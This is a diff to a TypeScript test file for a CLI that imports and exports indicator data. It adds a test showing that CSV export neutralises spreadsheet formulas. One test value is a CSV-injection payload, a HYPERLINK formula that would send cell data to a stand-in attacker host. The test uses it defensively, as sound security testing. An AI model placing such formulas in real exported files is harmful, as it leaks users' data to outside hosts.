@@ -28,7 +28,7 @@ const exportJson = async (...extra: string[]) =>
  * The first run loads the example catalog (on the real clock), dated here 1 January so 2026-T3 is
  * owed; then the leader reports GTH-01 2026-T3 on 20 October (`chat --fecha` would only look).
  */
-async function reportGth01() {
+async function reportGth01(analysis = '') {
   await run('exportar', 'indicadores', '--formato', 'json');
   const db = openMigratedDatabase(process.env.MIPG_DB ?? '');
   try {
@@ -39,7 +39,7 @@ async function reportGth01() {
       code: 'GTH-01',
       period: '2026-T3',
       measure: { numerator: 45, denominator: 50 },
-      analysis: '',
+      analysis,
       evidence: LINK,
     });
   } finally {
@@ -151,5 +151,34 @@ describe('npx mipg importar/exportar indicadores', () => {
       frequency: 'trimestral',
       target: 95,
     });
+  });
+
+  it('protects formula-like text in the CSV export and reads it back unchanged', async () => {
+    const injection = '=HYPERLINK("http://evil.example/?d="&A1,"clic")';
+    await reportGth01(injection);
+    const sheet = join(dir, 'propio.csv');
+    const formula = '=Capacitados/Servidores*100';
+    writeFileSync(
+      sheet,
+      `${catalogColumns.join(',')}\nPRU-01,DE,+Servidores capacitados,,eficacia,${formula},Capacitados,Servidores,porcentaje,creciente,trimestral,,90,60,80,10,`,
+    );
+    expect((await run('importar', 'indicadores', sheet)).code).toBe(0);
+    const file = join(dir, 'matriz.csv');
+    await run('exportar', 'indicadores', '--formato', 'csv', '--salida', file, '--fecha', '2026-10-20');
+    const text = readFileSync(file, 'utf8');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""clic"")"`);
+    expect(text).toContain(`,'+Servidores capacitados,`);
+    expect(text).toContain(`,'${formula},`);
+    expect(text).not.toMatch(/(^|,)"?[=+@]/m);
+
+    const back = await run('importar', 'indicadores', file);
+    expect(back.code).toBe(0);
+    expect(back.out).not.toContain('PRU-01');
+    const pru = (await exportJson()).find((r: { indicator: string }) => r.indicator === 'PRU-01');
+    expect(pru).toMatchObject({ name: '+Servidores capacitados' });
+    const gth = (await exportJson('--periodo', '2026-T3')).find(
+      (r: { indicator: string }) => r.indicator === 'GTH-01',
+    );
+    expect(gth).toMatchObject({ analysis: injection });
   });
 });
